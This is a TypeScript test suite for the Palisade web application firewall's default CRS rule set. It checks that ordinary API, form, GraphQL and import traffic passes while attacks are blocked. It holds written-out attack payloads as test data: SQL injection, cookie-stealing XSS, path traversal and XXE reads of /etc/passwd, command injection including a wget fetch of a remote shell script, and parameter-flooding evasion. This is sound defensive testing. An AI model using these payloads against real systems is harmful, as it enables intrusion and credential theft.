/**
 * Palisade's default CRS set-up (paranoia 1) on real rules: what modern apps send passes, attacks are
 * blocked with 403 by the anomaly-scoring rule, and malformed bodies are refused.
 */
import assert from 'node:assert/strict'
import { test } from 'node:test'
import {
  createWaf,
  crsRuleSet,
  DEFAULT_WAF_SETTINGS,
  evaluateRequest,
  type WafRequest,
} from '../src/waf/index.js'
import { CRS_RULES_DIR, crsAvailable } from './waf/crs-paths.js'
import { createFsSource } from './waf/fs-source.js'

const available = crsAvailable()
const skip = available.ok ? false : available.why
const headers: Array<[string, string]> = [
  ['Host', 'app.example.com'],
  ['User-Agent', 'Mozilla/5.0 (X11; Linux x86_64)'],
  ['Accept', 'application/json, text/plain, */*'],
]
const req = (method: string, uri: string, type?: string, body?: string): WafRequest => {
  const h = [...headers]
  const r: WafRequest = { method, uri, protocol: 'HTTP/1.1', headers: h, remoteAddr: '203.0.113.5' }
  if (type !== undefined && body !== undefined) {
    r.body = new Uint8Array(Buffer.from(body, 'utf8'))
    h.push(['Content-Type', type], ['Content-Length', String(r.body.byteLength)])
  }
  return r
}

test('the default CRS set-up lets ordinary API and form traffic through', { skip }, () => {
  const waf = createWaf(crsRuleSet(CRS_RULES_DIR, DEFAULT_WAF_SETTINGS, createFsSource()))
  const benign: WafRequest[] = [
    req('GET', '/api/items?page=2&sort=name'),
    req(
      'POST',
      '/api/items',
      'application/json',
      JSON.stringify({ name: 'Blue mug', price: 12.5, tags: ['kitchen'] }),
    ),
    req('PUT', '/api/items/7', 'application/json', '{"name":"Red mug"}'),
    req('PATCH', '/api/items/7', 'application/json; charset=utf-8', '{"price":10}'),
    req('DELETE', '/api/items/7'),
    req('OPTIONS', '/api/items'),
    req('POST', '/login', 'application/x-www-form-urlencoded', 'email=ann%40example.com&password=s3cret%21'),
    req('POST', '/feed', 'application/xml', '<entry><title>Hello</title></entry>'),
    req('POST', '/notes', 'text/plain', 'just some text'),
    req(
      'POST',
      '/upload',
      'multipart/form-data; boundary=----b1',
      '------b1\r\nContent-Disposition: form-data; name="title"\r\n\r\nHoliday\r\n------b1\r\nContent-Disposition: form-data; name="file"; filename="beach.jpg"\r\nContent-Type: image/jpeg\r\n\r\n\xff\xd8\xff\r\n------b1--\r\n',
    ),
  ]
  for (const r of benign) {
    const v = evaluateRequest(waf, r)
    assert.equal(
      v.action,
      'allow',
      `${r.method} ${r.uri}: ${JSON.stringify(v.matched.map((m) => [m.id, m.msg]))}`,
    )
  }
})

test('the default CRS set-up blocks common attacks with 403', { skip }, () => {
  const waf = createWaf(crsRuleSet(CRS_RULES_DIR, DEFAULT_WAF_SETTINGS, createFsSource()))
  const attacks: WafRequest[] = [
    req('GET', "/api/items?id=1'%20UNION%20SELECT%20password%20FROM%20users--"),
    req('POST', '/api/items', 'application/json', '{"name":"<script>alert(document.cookie)</script>"}'),
    req('GET', '/download?file=../../../../etc/passwd'),
    req('POST', '/ping', 'application/x-www-form-urlencoded', 'host=127.0.0.1%3Bcat%20/etc/passwd'),
    req(
      'POST',
      '/feed',
      'text/xml',
      '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
    ),
  ]
  for (const r of attacks) {
    const v = evaluateRequest(waf, r)
    assert.equal(v.action, 'block', `${r.method} ${r.uri} ${r.body ? Buffer.from(r.body).toString() : ''}`)
    assert.ok(v.interruption && v.interruption.status >= 400)
  }
})

test('a malformed JSON body is refused by the body-error rule', { skip }, () => {
  const waf = createWaf(crsRuleSet(CRS_RULES_DIR, DEFAULT_WAF_SETTINGS, createFsSource()))
  const v = evaluateRequest(waf, req('POST', '/api/items', 'application/json', '{"name": '))
  assert.equal(v.interruption?.ruleId, 200002)
  assert.equal(v.interruption?.status, 400)
})

test(
  'a payload behind 1,000 decoy parameters is refused in every argument source (rule 200007)',
  { skip },
  () => {
    const waf = createWaf(crsRuleSet(CRS_RULES_DIR, DEFAULT_WAF_SETTINGS, createFsSource()))
    const decoys = Array.from({ length: 1000 }, (_, i) => `p${i}=x`)
    const payload = "id=1'%20UNION%20SELECT%20password%20FROM%20users--"
    const form = [...decoys, payload].join('&')
    const cookieReq = req('GET', '/')
    cookieReq.headers.push(['Cookie', [...decoys, "id=1' UNION SELECT password FROM users--"].join('; ')])
    const json = `{${[...decoys.map((d) => `"${d.slice(0, -2)}":1`), '"id":"1\' UNION SELECT 1--"'].join(',')}}`
    const part = (name: string, value: string): string =>
      `--b1\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`
    const multipart =
      decoys.map((_, i) => part(`p${i}`, 'x')).join('') + part('id', "1' UNION SELECT 1--") + '--b1--\r\n'
    const cases: Array<[string, WafRequest]> = [
      ['query', req('GET', `/search?${form}`)],
      ['form body', req('POST', '/search', 'application/x-www-form-urlencoded', form)],
      ['text/plain body', req('POST', '/search', 'text/plain', form)],
      ['cookies', cookieReq],
      ['JSON keys', req('POST', '/api', 'application/json', json)],
      ['multipart parts', req('POST', '/upload', 'multipart/form-data; boundary=b1', multipart)],
    ]
    for (const [where, r] of cases) {
      const v = evaluateRequest(waf, r)
      assert.equal(v.action, 'block', where)
      assert.ok(v.interruption && [400, 403].includes(v.interruption.status), where)
    }
    // 999 ordinary parameters are still fine.
    const many = Array.from({ length: 999 }, (_, i) => `p${i}=x`).join('&')
    assert.equal(evaluateRequest(waf, req('GET', `/search?${many}`)).action, 'allow')
  },
)

test('a text/plain body is inspected like a form body (JSON sent as text/plain)', { skip }, () => {
  const waf = createWaf(crsRuleSet(CRS_RULES_DIR, DEFAULT_WAF_SETTINGS, createFsSource()))
  const attack = req('POST', '/api', 'text/plain', '{"name":"<script>alert(document.cookie)</script>"}')
  assert.equal(evaluateRequest(waf, attack).action, 'block')
  assert.equal(
    evaluateRequest(waf, req('POST', '/notes', 'text/plain; charset=utf-8', 'Buy milk, eggs and bread.'))
      .action,
    'allow',
  )
})

test('a file upload with Unix line endings inside the file is not a multipart strict error', { skip }, () => {
  const waf = createWaf(crsRuleSet(CRS_RULES_DIR, DEFAULT_WAF_SETTINGS, createFsSource()))
  const body =
    '--b1\r\nContent-Disposition: form-data; name="title"\r\n\r\nnotes\r\n' +
    '--b1\r\nContent-Disposition: form-data; name="file"; filename="notes.txt"\r\nContent-Type: text/plain\r\n\r\n' +
    'first line\nsecond line\nthird line\n\r\n--b1--\r\n'
  const v = evaluateRequest(waf, req('POST', '/upload', 'multipart/form-data; boundary=b1', body))
  assert.equal(v.action, 'allow', JSON.stringify(v.rules))
  // LF-only boundary and header lines are still refused (parser-differential evasion).
  const lf = evaluateRequest(
    waf,
    req('POST', '/upload', 'multipart/form-data; boundary=b1', body.replace(/\r\n/g, '\n')),
  )
  assert.equal(lf.interruption?.ruleId, 200003)
})

test(
  'GraphQL documents are inspected by their values, not their syntax (JSON, application/graphql, GET)',
  { skip },
  () => {
    const waf = createWaf(crsRuleSet(CRS_RULES_DIR, DEFAULT_WAF_SETTINGS, createFsSource()))
    const forms = (doc: string): WafRequest[] => [
      req('POST', '/graphql', 'application/json', JSON.stringify({ query: doc, variables: { id: '42' } })),
      req('POST', '/graphql', 'application/graphql', doc),
      req('GET', `/graphql?query=${encodeURIComponent(doc)}`),
    ]
    const benign = [
      'query GetUser($id: ID!) { user(id: $id) { id name email orders(first: 10) { edges { node { id total } } } } }',
      'mutation { exec(command: "backup", system: true) { id status } }',
      'query { search(filter: {name: "cat", type: "system"}) { ... on File { path size } } }',
    ]
    for (const doc of benign)
      for (const r of forms(doc)) assert.equal(evaluateRequest(waf, r).action, 'allow', `${r.method} ${doc}`)
    const attacks = [
      `{ user(id: "1' OR '1'='1' --") { name } }`,
      '{ search(q: "<script>alert(1)</script>") { id } }',
      '{ file(path: "../../../../etc/passwd") { content } }',
    ]
    for (const doc of attacks)
      for (const r of forms(doc)) assert.equal(evaluateRequest(waf, r).action, 'block', `${r.method} ${doc}`)
    // A document that does not parse is inspected as text.
    assert.equal(
      evaluateRequest(waf, req('POST', '/graphql', 'application/graphql', "{ a(x: 1' OR 1=1--")).action,
      'block',
    )
  },
)

test(
  'prose, CJK text and markdown-free sentences pass; the exclusions remove only the prose value',
  { skip },
  () => {
    const waf = createWaf(crsRuleSet(CRS_RULES_DIR, DEFAULT_WAF_SETTINGS, createFsSource()))
    const q = (v: string): string => `/search?q=${encodeURIComponent(v)}`
    for (const text of [
      'echo in the mirror',
      'curl and divergence',
      'union was a great select',
      'JavaScript: Basics of JavaScript Language',
      'Northwind Traders quarterly report',
      '東京都の天気予報は晴れです',
      '한국어 텍스트와 중국어 文字',
      '**Bold** and _italic_ text with a [link](http://example.com) and ![img](a.png)',
    ]) {
      const v = evaluateRequest(waf, req('GET', q(text)))
      assert.equal(v.action, 'allow', `${text}: ${JSON.stringify(v.rules)}`)
    }
    // A second value of the same name is still read by the rules the prose value is excluded from.
    const v = evaluateRequest(
      waf,
      req('GET', `${q('echo in the mirror')}&q=${encodeURIComponent('/bin/cat /etc/shadow')}`),
    )
    assert.equal(v.action, 'block')
    assert.ok(v.rules.includes(932160) || v.rules.includes(930120), JSON.stringify(v.rules))
  },
)

test('payloads in path segments, custom X- headers and Base64 values are inspected', { skip }, () => {
  const waf = createWaf(crsRuleSet(CRS_RULES_DIR, DEFAULT_WAF_SETTINGS, createFsSource()))
  const b64 = (s: string): string => Buffer.from(s).toString('base64').replace(/=+$/, '')
  const path = req('GET', `/api/users/${encodeURIComponent("1' OR '1'='1")}`)
  const header = req('GET', '/api/items')
  header.headers.push(['X-Filter', "1' UNION SELECT password FROM users--"])
  const encoded = req('GET', `/?state=${b64('<script>alert(document.cookie)</script>')}`)
  for (const r of [path, header, encoded]) assert.equal(evaluateRequest(waf, r).action, 'block', r.uri)
  // Plain paths and ordinary custom headers are untouched.
  const ok = req('GET', '/api/v1/users/42/orders/2024-01-05.json')
  ok.headers.push(['X-Api-Version', '2'], ['X-Request-Id', 'b7f1c9d2'])
  assert.equal(evaluateRequest(waf, ok).action, 'allow')
})

test('URL-encoded payloads inside JSON values are inspected decoded', { skip }, () => {
  const waf = createWaf(crsRuleSet(CRS_RULES_DIR, DEFAULT_WAF_SETTINGS, createFsSource()))
  const sqli = encodeURIComponent("1' UNION SELECT password FROM users--")
  const shell = encodeURIComponent(';wget http://203.0.113.9/sh311.sh')
  const multipart = (value: string): string =>
    `------b1\r\nContent-Disposition: form-data; name="q"\r\n\r\n${value}\r\n------b1--\r\n`
  const attacks = [
    req('POST', '/api/search', 'application/json', JSON.stringify({ q: sqli })),
    req('POST', '/api/run', 'application/json', JSON.stringify({ cmd: shell })),
  ]
  for (const r of attacks)
    assert.equal(evaluateRequest(waf, r).action, 'block', new TextDecoder().decode(r.body))
  // What APIs send URL-encoded in JSON: return URLs, encoded names and paths.
  const benign = [
    req(
      'POST',
      '/api/login',
      'application/json',
      JSON.stringify({
        returnTo: 'https%3A%2F%2Fapp.example.com%2Forders%3Fpage%3D2',
        name: 'Caf%C3%A9 Blue',
      }),
    ),
    req(
      'POST',
      '/upload',
      'multipart/form-data; boundary=----b1',
      multipart('reports%2F2026%2Fq4%20summary.pdf'),
    ),
  ]
  for (const r of benign)
    assert.equal(evaluateRequest(waf, r).action, 'allow', new TextDecoder().decode(r.body))
})

test('CSV and newline-delimited JSON bodies are read cell by cell and document by document', { skip }, () => {
  const waf = createWaf(crsRuleSet(CRS_RULES_DIR, DEFAULT_WAF_SETTINGS, createFsSource()))
  const verdict = (type: string, body: string): { action: string; ids: number[] } => {
    const v = evaluateRequest(waf, req('POST', '/api/import', type, body))
    return { action: v.action, ids: v.matched.map((m) => m.id) }
  }
  // Ordinary imports and bulk APIs pass (they were refused as unknown types before: 920420).
  assert.equal(
    verdict('text/csv', 'id,name,notes\n1,"O\'Brien, Liam","moved to Cork; call after 5"\n2,Zoë,東京\n')
      .action,
    'allow',
  )
  assert.equal(
    verdict(
      'application/x-ndjson',
      '{"index":{"_index":"logs"}}\n{"message":"select failed","level":"warn"}\n',
    ).action,
    'allow',
  )
  // What a cell or a line holds is inspected like any argument.
  assert.equal(verdict('text/csv', 'id,bio\n1,"x\' UNION SELECT password FROM users--"\n').action, 'block')
  assert.equal(verdict('text/csv; charset=utf-8', 'id,bio\n1,<script>alert(1)</script>\n').action, 'block')
  assert.equal(
    verdict('application/x-ndjson', '{"a":1}\n{"q":"<script>alert(1)</script>"}\n').action,
    'block',
  )
  assert.equal(verdict('application/jsonl', '{"a":1}\n{"cmd":"; cat /etc/passwd"}\n').action, 'block')
  // A body that does not parse is refused, as for JSON (200002).
  assert.ok(verdict('application/x-ndjson', '{"a":1}\n{not json\n').ids.includes(200002))
  assert.ok(verdict('text/csv', 'a,"b\n').ids.includes(200002))
})
